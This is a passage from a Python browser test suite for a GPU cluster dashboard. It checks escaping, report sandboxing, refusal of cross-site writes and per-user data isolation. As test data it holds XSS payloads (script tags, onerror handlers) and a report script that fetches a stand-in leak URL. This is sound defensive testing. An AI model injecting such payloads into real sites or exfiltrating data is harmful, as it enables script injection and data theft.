"""The dashboard in a real headless chromium against a live `corral serve` (simulated GPUs, TCP with tokens).

One daemon and one browser for the module, the tests in order: log in, the GPU grid, the queue, users, jobs and a
job's live log, the reports, a keyboard-only walk, the socket (through a local forwarder, no login), another user's
view (trust), and at the end: no request ever left 127.0.0.1 and no hostile text ran. Screenshots go to
$CORRAL_ARTIFACTS/dashboard (or pytest's tmp folder); docs/dashboard/*.png are copies of them.

As root, the jobs belong to two real users made for the test (A and B, removed afterwards); otherwise to the test's
own user, and the trust test is skipped.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import secrets
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.daemon.realusers import can_run, local_users
from tests.dashboard.browser import Network, chromium, require_browser
from tests.mesos.live import Live, live_corral

require_browser()

from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException  # noqa: E402
from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402 - only where a browser is
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

HOSTILE_NAMES = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "[/infer] 日本語 ✓ <b>bold</b>",
)
LOG_LINE = "tick <img src=x onerror=window.__pwned=3> [/infer] été"
REPORT = (
    "<!DOCTYPE html><html><body><h1>Policy comparison</h1>"
    '<img alt="plot" src="data:image/png;base64,'
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==">'
    # A report may not run scripts nor reach anything: were this to run, the request log would show it.
    "<script>fetch('http://203.0.113.7/leak');document.body.append('SCRIPT RAN')</script>"
    "<table><tr><th>policy</th><th>allocated %</th></tr><tr><td>fgd</td><td>93.1</td></tr></table></body></html>"
)


@dataclass
class Person:
    name: str
    token: str
    jobs: list[str] = field(default_factory=list)


@dataclass
class Site:
    live: Live
    people: dict[str, Person]  # "root" (the test's own user), "a" and "b" (real users as root, else the same user)
    secret: str  # in A's command, environment and output
    shots: Path
    driver: Any
    network: Network
    two_users: bool


def submit(live: Live, token: str, **body: Any) -> str:
    with httpx.Client(base_url=live.url, headers={"Authorization": f"Bearer {token}"}, timeout=30) as client:
        made = client.post("/v1/jobs", json=body)
        assert made.status_code == 201, made.text
        return str(made.json()["id"])


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    root = tmp_path_factory.mktemp("browser")
    reports = root / "reports"
    (reports / "matrix").mkdir(parents=True)
    (reports / "matrix" / "matrix.html").write_text(REPORT)
    artifacts = os.environ.get("CORRAL_ARTIFACTS")
    shots = Path(artifacts) / "dashboard" if artifacts else tmp_path_factory.mktemp("dashboard-screenshots")
    shots.mkdir(parents=True, exist_ok=True)
    two_users = can_run()
    with contextlib.ExitStack() as stack:
        users = stack.enter_context(local_users(("a", None), ("b", None))) if two_users else {}
        live = stack.enter_context(live_corral(root, "--reports", str(reports), "--sharing", "time-slicing"))
        people = {"root": Person(pwd.getpwuid(os.geteuid()).pw_name, live.token)}
        with httpx.Client(transport=httpx.HTTPTransport(uds=live.local.env["CORRAL_SOCKET"]), timeout=30) as unix:
            for role in ("a", "b"):
                if not two_users:
                    people[role] = people["root"]
                    continue
                made = unix.post("http://corral/v1/tokens", json={"name": role, "user": users[role].name})
                assert made.status_code == 201, made.text
                people[role] = Person(users[role].name, made.json()["token"])
        secret = "S3CRET" + secrets.token_hex(8)
        a, b = people["a"], people["b"]
        a.jobs.append(submit(live, a.token, command=["sh", "-c", f"echo {secret}; sleep 600"], gpus=1,
                             time_limit="10m", env={"A_SECRET": secret}, name=HOSTILE_NAMES[0]))  # fmt: skip
        a.jobs.append(submit(live, a.token, command=["sh", "-c", f"while :; do echo '{LOG_LINE}'; sleep 0.4; done"],
                             gpu_fraction=0.5, gpu_memory="20GiB", time_limit="10m", name="a share"))  # fmt: skip
        b.jobs.append(submit(live, b.token, command=["sleep", "600"], gpu_fraction=0.25, gpu_memory="10GiB",
                             time_limit="10m", name=HOSTILE_NAMES[1]))  # fmt: skip
        b.jobs.append(submit(live, b.token, command=["echo", "needs both"], gpus=2, name=HOSTILE_NAMES[2]))
        driver = stack.enter_context(chromium(root / "profile"))
        yield Site(live, people, secret, shots, driver, Network(), two_users)
        for person in people.values():
            for job in person.jobs:
                live.local.run("cancel", job, ok=False)


def until(site: Site, what: str, check: Callable[[Any], Any], timeout: float = 20) -> Any:
    # The page redraws its view every 2 s: an element found a moment ago may be gone, and is looked for again.
    ignored = (StaleElementReferenceException, NoSuchElementException)
    try:
        return WebDriverWait(site.driver, timeout, poll_frequency=0.2, ignored_exceptions=ignored).until(check)
    except Exception as exc:
        site.driver.save_screenshot(str(site.shots / "failed.png"))
        raise AssertionError(f"timed out waiting for {what}; page text:\n{text(site)[:3000]}") from exc


# Read in one script each, so that a redraw between two reads cannot mix two versions of the view.
def text(site: Site) -> str:
    return str(site.driver.execute_script("return document.body.innerText"))


def view_text(site: Site) -> str:
    return str(site.driver.execute_script("return document.getElementById('view').innerText"))


def heading(site: Site) -> str:
    return str(site.driver.execute_script("return document.querySelector('#view h2')?.innerText || ''"))


def texts(site: Site, selector: str) -> list[str]:
    found = site.driver.execute_script(
        "return [...document.querySelectorAll(arguments[0])].map(e => e.innerText)", selector
    )
    return [str(t) for t in found]


def key(site: Site, keys: str) -> None:
    """Keys as a person types them: to whatever has the focus (or the page, when nothing has)."""
    ActionChains(site.driver).send_keys(keys).perform()


def shot(site: Site, name: str) -> None:
    site.driver.save_screenshot(str(site.shots / f"{name}.png"))


def login(site: Site, person: Person) -> None:
    driver = site.driver
    driver.get(site.live.url + "/ui/")
    box = until(
        site,
        "the login form",
        lambda d: d.find_element(By.ID, "token") if d.find_element(By.ID, "token").is_displayed() else None,
    )
    box.send_keys(person.token + Keys.ENTER)
    until(site, f"{person.name}'s view", lambda d: d.find_element(By.ID, "whoami").text.startswith(person.name))


def test_login_page_then_the_gpu_grid(site: Site) -> None:
    site.driver.get(site.live.url + "/ui/")
    until(site, "the login form", lambda d: d.find_element(By.ID, "token").is_displayed())
    assert site.driver.switch_to.active_element.get_attribute("id") == "token"
    shot(site, "login")
    login(site, site.people["root"])
    a, b = site.people["a"], site.people["b"]

    def grid_ready(_: Any) -> bool:
        body = view_text(site)
        return heading(site).startswith("GPUs (2)") and f"#{a.jobs[0]}" in body and f"#{b.jobs[0]}" in body

    until(site, "both GPUs with their shares", grid_ready)
    cards = texts(site, "#view article.card")
    assert len(cards) == 2
    whole, shared = sorted(cards, key=lambda t: "whole GPU" not in t)
    # each share with its job's name (root sees every name), as text: the hostile names make no markup
    assert f"#{a.jobs[0]} · {HOSTILE_NAMES[0]} · {a.name} · whole GPU, 80 GiB" in whole
    assert "memory: used not measured, granted 80 GiB of 80 GiB" in whole
    assert f"#{a.jobs[1]} · a share · {a.name} · 500m of the GPU, 20 GiB" in shared
    assert f"#{b.jobs[0]} · {HOSTILE_NAMES[1]} · {b.name} · 250m of the GPU, 10 GiB" in shared
    assert "granted 30 GiB of 80 GiB" in shared and "granted: 0.75 of the GPU (750m)" in shared
    # who holds which GPU: one row per share, with the GPU's index, UUID and model
    assert "Who holds which GPU" in texts(site, "#view h3")
    holders = [r.split("\t") for r in texts(site, "#view table tbody tr")]
    assert site.driver.execute_script("return document.querySelector('#view table caption').innerText") == (
        "One row per share: the GPU, the job holding it and its user (other users' jobs by number only)"
    )
    assert texts(site, "#view table thead th") == ["GPU", "UUID", "Model", "Job", "Name", "User", "Share", "Memory"]
    by_job = {r[3]: r for r in holders}
    assert by_job[f"#{a.jobs[0]}"][4:] == [HOSTILE_NAMES[0], a.name, "whole GPU", "80 GiB"]
    assert by_job[f"#{a.jobs[1]}"][4:] == ["a share", a.name, "500m", "20 GiB"]
    assert by_job[f"#{b.jobs[0]}"][4:] == [HOSTILE_NAMES[1], b.name, "250m", "10 GiB"]
    gpu_whole = by_job[f"#{a.jobs[0]}"]
    assert gpu_whole[1].startswith("SIM-GPU-") and gpu_whole[2] == "A100"
    assert {by_job[f"#{a.jobs[1]}"][0], by_job[f"#{b.jobs[0]}"][0]} == {"0", "1"} - {gpu_whole[0]}
    assert site.driver.execute_script("return document.querySelector('#view img, #view script')") is None
    # the sparkline: an SVG with a name, drawing samples of the share granted
    until(site, "a sparkline", lambda d: d.find_elements(By.CSS_SELECTOR, "svg.spark polyline.granted"))
    label = site.driver.find_element(By.CSS_SELECTOR, "svg.spark").get_attribute("aria-label")
    assert "share granted" in label and "utilisation not measured" in label
    shot(site, "gpus")


def test_the_queue_says_why_and_when(site: Site) -> None:
    key(site, "q")
    b = site.people["b"]
    waiting = b.jobs[1]

    def explained(_: Any) -> bool:
        rows = texts(site, "#view tbody tr")
        return heading(site) == "Queue (1 waiting)" and any("1 of 1" in r and "insufficient GPU" in r for r in rows)

    until(site, "the queued job with its reason", explained)
    (row,) = texts(site, "#view tbody tr")
    assert f"#{waiting}" in row and HOSTILE_NAMES[2] in row  # rendered literally, markup and all
    assert "2 × GPU" in row and "Reserved for it" in row
    # the head's reservation: an estimated start, in words and as an ISO 8601 instant
    start = site.driver.execute_script(
        "const t = document.querySelector('#view tbody time'); return [t.innerText, t.dateTime]"
    )
    assert start[0].startswith("in ") and start[1].endswith("Z")
    assert site.driver.execute_script("return document.querySelector('#view b')") is None
    shot(site, "queue")


def test_users_usage(site: Site) -> None:
    key(site, "u")
    a, b = site.people["a"], site.people["b"]
    until(site, "the users' table", lambda _: heading(site) == "Users" and "GPUs held" in view_text(site))
    rows = {r.split("\t")[0]: r.replace("\t", " ") for r in texts(site, "#view tbody tr")}
    if site.two_users:
        assert rows[a.name] == f"{a.name} 2 0 1.5 (75% of 2) 100 GiB"
        assert rows[b.name] == f"{b.name} 1 1 0.25 (13% of 2) 10 GiB"
    assert "Queues (fair share off)" in view_text(site)  # no queues file on this daemon: said, not hidden
    shot(site, "users")


# What GET /v1/queues and GET /v1/shares answer once queues exist (the `queues` branch's shapes, docs/queues.md),
# with a hostile queue name: the page is given them in place of this daemon's 404s.
QUEUES = {
    "default_queue": "default",
    "fair_share": True,
    "half_life_s": 604800.0,
    "queues": [
        {"name": "default", "default": True, "weight": 1.0, "max_priority": None, "guarantee": {}, "limit": {},
         "borrow_limit": {}, "in_use": {"gpus": 1, "gpu_milli": 1000, "gpu_memory": 81920, "cpus": 1000,
         "memory": 1024}, "borrowing": {"gpus": 1}, "borrowing_jobs": ["3"], "below_guarantee": False, "pending": 1,
         "running": 2},
        {"name": "<i>research</i>", "default": False, "weight": 3.0, "max_priority": 50,
         "guarantee": {"gpus": 1}, "limit": {"gpus": 2, "gpu_memory": 163840}, "borrow_limit": {}, "in_use": {},
         "borrowing": {}, "borrowing_jobs": [], "below_guarantee": True, "pending": 0, "running": 0},
    ],
}  # fmt: skip
SHARES = {
    "half_life_s": 604800.0,
    "resources": ["gpu_milli", "gpu_memory_mib", "cpu_milli", "memory_mib"],
    "accounts": [
        {"queue": "default", "user": None, "weight": 1.0, "norm_shares": 0.25, "dominant_share": 0.5,
         "effective_usage": 0.5, "fairshare_factor": 0.25, "usage": {"gpu_milli": 9000000.0, "gpu_memory_mib": 0,
         "cpu_milli": 14400000.0, "memory_mib": 7372800.0}},
        {"queue": "default", "user": "alice", "weight": 1.0, "norm_shares": 1.0, "dominant_share": 0.5,
         "effective_usage": 0.5, "fairshare_factor": 0.5, "usage": {"gpu_milli": 1500.0}},
    ],
}  # fmt: skip
FAKE_QUEUES = """
const answers = {"/v1/queues": arguments[0], "/v1/shares": arguments[1]};
window.__realFetch = window.__realFetch || window.fetch;
window.fetch = (path, init) => path in answers
  ? Promise.resolve(new Response(answers[path], {status: 200, headers: {"Content-Type": "application/json"}}))
  : window.__realFetch(path, init);
"""


def test_queues_and_fair_share_once_the_daemon_has_them(site: Site) -> None:
    site.driver.execute_script(FAKE_QUEUES, json.dumps(QUEUES), json.dumps(SHARES))
    try:
        # (the daemon's own answers drew these tables before: wait for the page's next refresh, with the given ones)
        until(site, "the queues' tables", lambda _: "<i>research</i>" in view_text(site))
        queues, shares = site.driver.execute_script(
            "return [...document.querySelectorAll('#view table')].slice(1).map(t => t.innerText)"
        )
        assert "<i>research</i>" in queues and "default (default)" in queues
        assert "1 GPU, 1 GPU (1000m), 80 GiB GPU memory, 1 CPU, 1 GiB" in queues  # default's in_use, in words
        assert "2 GPUs, 160 GiB GPU memory" in queues  # research's limit
        assert "(the queue)" in shares and "alice" in shares and "0.250" in shares
        assert "half-life of 7.0 days" in shares
        # usage in hours (the API's resource-seconds: 9,000,000 milli-GPU-seconds = 2.5 GPU-hours)
        assert "Usage (decayed, in hours)" in shares
        assert "2.50 GPU-hours, 4.00 CPU-hours, 2.00 GiB-hours of memory" in shares
        assert "< 0.01 GPU-hours" in shares  # alice's 1.5 GPU-seconds
        # borrowing jobs: the running jobs' ids as links (before: "0 3", the list's index beside the id), "none" if none
        rows = {r.split("\t")[0]: r.split("\t") for r in texts(site, "#view table:nth-of-type(2) tbody tr")}
        headers = texts(site, "#view table:nth-of-type(2) thead th")
        column = headers.index("borrowing jobs")
        assert rows["default (default)"][column] == "#3" and rows["<i>research</i>"][column] == "none"
        link = site.driver.execute_script("return [...document.querySelectorAll('#view a')].map(a => a.hash)")
        assert "#job/3" in link
        # booleans in words
        below = headers.index("below guarantee")
        assert rows["default (default)"][below] == "no" and rows["<i>research</i>"][below] == "yes"
        assert "false" not in view_text(site) and "true" not in view_text(site)
        assert site.driver.execute_script("return document.querySelector('#view i')") is None
        shot(site, "fair-share")
    finally:
        site.driver.execute_script("if (window.__realFetch) window.fetch = window.__realFetch")


def test_jobs_and_a_live_log(site: Site) -> None:
    key(site, "j")
    a = site.people["a"]
    until(site, "the jobs table", lambda _: heading(site).startswith("Jobs (newest 4)"))
    body = view_text(site)
    for name in HOSTILE_NAMES:
        assert name in body  # as text: no markup made of it
    assert "sh -c 'while :; do echo '\"'\"'tick" in body  # the command as a shell would quote it
    site.driver.find_element(By.CSS_SELECTOR, f'#view a[href="#job/{a.jobs[1]}"]').click()
    until(site, "the job's page", lambda _: heading(site).startswith(f"Job {a.jobs[1]}"))
    until(site, "a few log lines", lambda _: "".join(texts(site, "pre.log")).count(LOG_LINE) >= 2)
    seen = "".join(texts(site, "pre.log")).count(LOG_LINE)
    until(site, "more lines, live", lambda _: "".join(texts(site, "pre.log")).count(LOG_LINE) > seen)
    fields = view_text(site)
    assert "20 GiB each" in fields and "Environment\n0 variables" in fields and "Time limit\n600 s" in fields
    assert "Preemptible\nyes" in fields  # a boolean in words
    assert site.driver.find_elements(By.CSS_SELECTOR, "pre.log img") == []
    shot(site, "job")


# WCAG 2's contrast ratio of every visible piece of text against the background it is drawn on.
LOW_CONTRAST = """
const rgb = (s) => (s.match(/[\\d.]+/g) || []).map(Number);
const lum = (c) => { const [r, g, b] = c.slice(0, 3).map((v) => { v /= 255;
  return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
const under = (e) => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor);
  if (c.length === 3 || c[3] > 0) return c; } return [255, 255, 255]; };
const low = [];
const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
while (walk.nextNode()) {
  const node = walk.currentNode, e = node.parentElement;
  if (!node.textContent.trim() || !e.getClientRects().length) continue;
  const a = lum(rgb(getComputedStyle(e).color)), b = lum(under(e));
  const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
  if (ratio < 4.5) low.push(`${node.textContent.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
}
return low;
"""


def test_text_is_readable_and_states_are_not_colour_alone(site: Site) -> None:
    a = site.people["a"]
    # the check itself sees faint text (grey on white: 1.61)
    site.driver.get(f"{site.live.url}/ui/#gpus")
    until(site, "the grid", lambda _: heading(site).startswith("GPUs"))
    site.driver.execute_script("const f = document.createElement('p'); f.textContent = 'faint';"
                               "f.style.color = '#cccccc'; document.body.append(f)")  # fmt: skip
    assert site.driver.execute_script(LOW_CONTRAST) == ["faint: 1.61"]
    site.driver.execute_script("document.body.lastElementChild.remove()")
    for view, ready in (("gpus", "GPUs"), ("queue", "Queue"), ("jobs", "Jobs"), (f"job/{a.jobs[1]}", "Job")):
        site.driver.get(f"{site.live.url}/ui/#{view}")
        until(site, view, lambda _, ready=ready: heading(site).startswith(ready))  # type: ignore[misc]
        assert site.driver.execute_script(LOW_CONTRAST) == [], view
    # each state badge says its state in words (and a symbol), not by its colour only
    site.driver.get(f"{site.live.url}/ui/#jobs")
    until(site, "the jobs", lambda _: heading(site).startswith("Jobs"))
    badges = texts(site, "#view .state")
    assert badges and all(b.split()[-1] in {"running", "queued", "starting", "succeeded", "failed"} for b in badges)


def test_reports_are_sandboxed(site: Site) -> None:
    key(site, "r")
    until(site, "the report list", lambda _: heading(site) == "Simulation reports (1)")
    frame = site.driver.find_element(By.CSS_SELECTOR, "iframe.report")
    assert frame.get_attribute("sandbox") == ""  # no scripts, no same origin
    site.driver.switch_to.frame(frame)
    try:
        until(site, "the report inside", lambda d: "Policy comparison" in d.find_element(By.TAG_NAME, "body").text)
        assert "SCRIPT RAN" not in site.driver.find_element(By.TAG_NAME, "body").text
    finally:
        site.driver.switch_to.default_content()
    shot(site, "reports")


def test_keyboard_only_walk(site: Site) -> None:
    driver = site.driver
    driver.get("about:blank")  # a fresh load (only the fragment would change otherwise): the focus at the top
    driver.get(site.live.url + "/ui/#gpus")  # still logged in: the session cookie
    until(site, "the GPU grid", lambda _: heading(site).startswith("GPUs"))
    order = []
    for _ in range(11):
        key(site, Keys.TAB)
        order.append(str(driver.execute_script("return document.activeElement.innerText")).split("\n")[0])
        outline = driver.execute_script(
            "const e = document.activeElement; return [getComputedStyle(e).outlineStyle, e.matches(':focus-visible'),"
            " e.matches(':focus'), document.hasFocus(), e.outerHTML]"
        )
        assert outline[0] != "none", f"no visible focus on {order[-1]!r}: {outline}"
    assert order[:10] == [
        "Skip to content",
        "GPUs g",
        "Queue q",
        "Users u",
        "Jobs j",
        "Apps a",
        "Definitions d",
        "Reports r",
        "Pause updates",
        "Log out",
    ], order
    # back to "Queue" by Shift+Tab and open it with Enter: the view's heading takes the focus
    for _ in range(8):
        ActionChains(driver).key_down(Keys.SHIFT).send_keys(Keys.TAB).key_up(Keys.SHIFT).perform()
    assert driver.switch_to.active_element.text == "Queue q"
    key(site, Keys.ENTER)
    until(site, "the queue by keyboard", lambda _: heading(site).startswith("Queue"))
    until(site, "focus on the heading", lambda d: d.switch_to.active_element.tag_name == "h2")
    # letters switch views; Tab from the heading reaches the first job link, Enter opens it
    key(site, "j")
    until(
        site,
        "jobs by keyboard",
        lambda d: heading(site).startswith("Jobs") and d.switch_to.active_element.tag_name == "h2",
    )
    key(site, Keys.TAB)
    link = driver.switch_to.active_element
    assert link.get_attribute("href").split("#")[1].startswith("job/")
    shot(site, "keyboard")
    key(site, Keys.ENTER)
    until(site, "the job by keyboard", lambda _: heading(site).startswith("Job "))
    # the pause button is a real button, with its state said in words and aria-pressed
    key(site, "p")
    pause = driver.find_element(By.ID, "pause")
    assert (
        pause.tag_name == "button" and pause.get_attribute("aria-pressed") == "true" and pause.text == "Resume updates"
    )
    key(site, "p")
    assert pause.get_attribute("aria-pressed") == "false"


@contextlib.contextmanager
def forwarder(sock: str) -> Iterator[int]:
    """127.0.0.1:PORT -> the daemon's Unix socket, as `ssh -L PORT:SOCKET` does: the daemon sees this process."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def pipe(src: socket.socket, dst: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := src.recv(65536):
                dst.sendall(data)
        with contextlib.suppress(OSError):
            dst.shutdown(socket.SHUT_WR)

    def accept() -> None:
        while not stop.is_set():
            try:
                client, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            upstream = socket.socket(socket.AF_UNIX)
            upstream.connect(sock)
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=pipe, args=(a, b), daemon=True).start()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        stop.set()
        thread.join(timeout=2)
        server.close()


def test_through_the_socket_no_login_is_asked(site: Site) -> None:
    with forwarder(site.live.local.env["CORRAL_SOCKET"]) as port:
        site.driver.get(f"http://127.0.0.1:{port}/ui/#users")
        until(site, "the socket user's view", lambda d: d.find_element(By.ID, "whoami").text != "")
        assert not site.driver.find_element(By.ID, "login").is_displayed()
        assert not site.driver.find_element(By.ID, "logout").is_displayed()  # nothing to log out of
        until(site, "the users' table", lambda _: heading(site) == "Users")
        # a page of another port (another site's, as far as the socket knows) posts a cancel through the forward
        victim = site.people["a"].jobs[0]
        forger = Forger(f"http://127.0.0.1:{port}/v1/jobs/{victim}/cancel")
        forger.start()
        try:
            site.driver.get(forger.url)
            until(
                site, "the refusal", lambda _: "a page of another site may not write through the socket" in text(site)
            )
        finally:
            forger.server.shutdown()
        assert job_state(site, victim) == "running"
        site.network.read(site.driver)
        site.driver.get("about:blank")  # stop polling before the forwarder goes


def test_another_user_sees_only_their_own(site: Site) -> None:
    if not site.two_users:
        pytest.skip("needs root: real users A and B")
    a, b = site.people["a"], site.people["b"]
    site.network.read(site.driver)  # what came before is root's
    site.network.responses.clear()
    driver = site.driver
    driver.get(site.live.url + "/ui/#gpus")
    until(site, "the logout button", lambda d: d.find_element(By.ID, "logout").is_displayed())
    driver.find_element(By.ID, "logout").click()
    until(site, "the login form again", lambda d: d.find_element(By.ID, "token").is_displayed())
    login(site, b)
    until(site, "B's grid", lambda _: heading(site).startswith("GPUs") and "another user" in view_text(site))
    grid = view_text(site)
    assert a.name not in grid and f"#{b.jobs[0]} · {HOSTILE_NAMES[1]} · {b.name}" in grid
    assert f"#{a.jobs[0]}\t(not shown)\tanother user" in grid  # A's job in the holders' table: a number only
    assert not driver.find_elements(By.CSS_SELECTOR, f'#view a[href="#job/{a.jobs[0]}"]')  # no link to A's job
    pages = {"gpus": grid}
    for view in ("queue", "users", "jobs", f"job/{a.jobs[0]}", f"job/{a.jobs[1]}"):
        driver.get(f"{site.live.url}/ui/#{view}")
        until(site, f"B's {view}", lambda _: heading(site) != "" and "Loading" not in heading(site))
        time.sleep(0.3)
        pages[view] = text(site) + driver.page_source
    assert f"No job {a.jobs[0]} that you may see." in pages[f"job/{a.jobs[0]}"]
    assert "(other users)" in pages["users"] and a.name not in pages["users"]
    shot(site, "other-user")
    # neither what B's page shows nor any answer it got holds A's secret, commands, job names or output
    site.network.read(driver)
    bodies = site.network.bodies(driver, lambda url: url.startswith(site.live.url))
    assert len(bodies) >= 5, list(bodies)
    for where, content in [*pages.items(), *bodies.items()]:
        for leak in (site.secret, HOSTILE_NAMES[0], "a share", "while :", "A_SECRET"):
            assert leak not in content, f"{leak!r} shown to {b.name} in {where}"


def post(live: Live, token: str, path: str, body: dict[str, Any]) -> None:
    with httpx.Client(base_url=live.url, headers={"Authorization": f"Bearer {token}"}, timeout=30) as client:
        made = client.post(path, json=body)
        assert made.status_code == 201, made.text


def job_state(site: Site, job: str) -> str:
    """A job's state as root sees it through the API."""
    with site.live.http() as client:
        return str(client.get(f"/v1/jobs/{job}").json()["state"])


def as_person(site: Site, person: Person) -> None:
    """The browser logged in as `person` (logging out whoever it was)."""
    driver = site.driver
    driver.get(site.live.url + "/ui/#gpus")
    until(
        site,
        "a view or the login",
        lambda d: d.find_element(By.ID, "whoami").text or d.find_element(By.ID, "token").is_displayed(),
    )
    if driver.find_element(By.ID, "whoami").text.startswith(person.name):
        return
    if driver.find_element(By.ID, "logout").is_displayed():
        driver.find_element(By.ID, "logout").click()
    login(site, person)


APP = {"id": "/team/a-web", "cmd": "echo '<img src=x onerror=window.__pwned=4>'; sleep 600", "cpus": 0.1, "mem": 32,
       "instances": 1, "labels": {"note": "<b>hostile</b>"}}  # fmt: skip
METRONOME = {"id": "a-nightly", "description": "<script>window.__pwned=5</script>",
             "run": {"cpus": 0.1, "mem": 32, "disk": 0, "cmd": "echo nightly"},
             "schedules": [{"id": "daily", "cron": "0 3 * * *"}]}  # fmt: skip
CHRONOS = {"name": "b-hourly", "command": "echo b", "schedule": "R/2030-01-01T00:00:00Z/PT1H"}


def test_marathon_apps_and_job_definitions_each_users_own(site: Site) -> None:
    a, b = site.people["a"], site.people["b"]
    post(site.live, a.token, "/marathon/v2/apps", APP)
    post(site.live, a.token, "/v1/definitions", METRONOME)
    post(site.live, b.token, "/v1/definitions", CHRONOS)
    driver = site.driver
    if site.two_users:  # B sees B's own definition, none of A's apps or definitions, even by their address
        as_person(site, b)
        key(site, "a")
        until(
            site, "B's apps", lambda _: heading(site) == "Marathon apps (0)" and "No Marathon apps." in view_text(site)
        )
        key(site, "d")
        until(site, "B's definitions", lambda _: heading(site) == "Job definitions (1)")
        (row,) = texts(site, "#view tbody tr")
        cells = row.split("\t")
        assert cells[:4] == ["b-hourly", "Chronos", b.name, "R/2030-01-01T00:00:00Z/PT1H"]
        assert cells[4].startswith("in ") and cells[4].endswith(" d")  # the next run: in words
        assert driver.execute_script("return document.querySelector('#view tbody time').dateTime") == (
            "2030-01-01T00:00:00Z"
        )
        for view, said in (("definition/a-nightly", "No job definition a-nightly that you may see."),
                           ("app/team/a-web", "No app /team/a-web that you may see.")):  # fmt: skip
            driver.get(f"{site.live.url}/ui/#{view}")
            until(site, f"B's {view}", lambda _, said=said: said in view_text(site))  # type: ignore[misc]
            assert "a-nightly" not in driver.page_source or view.startswith("definition")
    as_person(site, a)
    key(site, "a")

    def running(_: Any) -> bool:
        rows = texts(site, "#view tbody tr")
        return heading(site) == "Marathon apps (1)" and len(rows) == 1 and "\t1 of 1\t" in rows[0]

    until(site, "A's app, running", running, timeout=30)
    (app_row,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
    assert app_row[:5] == ["/team/a-web", a.name, "1 of 1", "at its target", APP["cmd"]]
    assert app_row[5] == "0 GPUs, 0.1 CPU, 32 MiB"
    assert texts(site, "#view thead th") == [
        "App", "User", "Running", "Deployment", "Command", "Each instance asks for", "Why instances wait"
    ]  # fmt: skip
    shot(site, "apps")
    driver.find_element(By.CSS_SELECTOR, '#view a[href="#app/team/a-web"]').click()
    until(site, "the app's page", lambda _: heading(site) == "App /team/a-web" and "running" in view_text(site))
    page = view_text(site)
    assert "Labels\nnote=<b>hostile</b>" in page and f"Command\n{APP['cmd']}" in page
    assert "Instances\n1 running of 1" in page and "Health checks\nnone" in page
    (task,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
    assert task[1] == "running" and task[2].startswith("#") and task[6] == "no health checks"
    a.jobs.append(task[2][1:])  # the instance is a job of A's (cancelled at the end)
    shot(site, "app")
    key(site, "d")
    until(site, "A's definitions", lambda _: heading(site) == "Job definitions (1)")
    (definition,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
    assert definition[:4] == ["a-nightly", "Metronome", a.name, "0 3 * * * (UTC)"]
    assert definition[6:8] == ["never ran", "0 / 0"]
    driver.find_element(By.CSS_SELECTOR, '#view a[href="#definition/a-nightly"]').click()
    until(site, "the definition's page", lambda _: heading(site) == "Definition a-nightly")
    page = view_text(site)
    assert f"Description\n{METRONOME['description']}" in page and "Schedules enabled\ndaily: yes" in page
    assert "Asks for\n0 GPUs, 0.1 CPU, 32 MiB" in page and "Next run\nin " in page
    assert "No runs yet." in page and "As Metronome shows it" in page
    spec = json.loads(driver.find_element(By.CSS_SELECTOR, "pre.spec").text)
    assert spec["id"] == "a-nightly" and spec["run"]["cmd"] == "echo nightly"
    assert driver.execute_script("return document.querySelector('#view b, #view img, #view script')") is None
    shot(site, "definition")


# Answers in the API's shapes for what this daemon does not show now (a deployment, health, a disabled schedule, a
# free GPU), by path (the query left out); the page is given them in place of the daemon's own.
FAKE_ANSWERS = """
const answers = arguments[0];
window.__realFetch = window.__realFetch || window.fetch;
window.fetch = (path, init) => path.split("?")[0] in answers
  ? Promise.resolve(new Response(JSON.stringify(answers[path.split("?")[0]]), {status: 200,
      headers: {"Content-Type": "application/json"}}))
  : window.__realFetch(path, init);
"""
FAKE_TASK: dict[str, Any] = {
    "id": "web.instance-1", "appId": "/web", "host": "sim-0", "ports": [31000], "servicePorts": [],
    "stagedAt": "2026-01-01T00:00:00.000Z", "startedAt": None, "version": "v", "state": "TASK_STAGING",
    "healthCheckResults": [{"alive": True, "taskId": "web.instance-1"}, {"alive": False, "taskId": "x"}],
    "corral": {"job": "41", "gpus": [{"index": 1, "model": "A100"}], "reason": ""},
}  # fmt: skip
FAKE_APP: dict[str, Any] = {
    "id": "/web", "cmd": None, "args": ["serve", "--port", "$PORT0"], "instances": 2, "cpus": 1, "mem": 2048,
    "gpus": 1, "tasksRunning": 0, "tasksHealthy": 0, "tasksUnhealthy": 0, "tasksStaged": 1,
    "deployments": [{"id": "d1"}], "labels": {}, "portDefinitions": [{"port": 0, "protocol": "tcp"}],
    "healthChecks": [{}, {}], "version": "2026-01-01T00:00:00.000Z", "tasks": [FAKE_TASK],
    "corral": {"user": "someone", "waiting": "1 instance waits: insufficient GPU", "launchDelaySeconds": 0},
}  # fmt: skip
FAKE_DEFINITION: dict[str, Any] = {
    "name": "child", "source": "chronos", "user": "someone", "description": "", "command": ["make"],
    "image": "busybox", "cpus": 1, "memory_mib": 512, "gpus": 1,
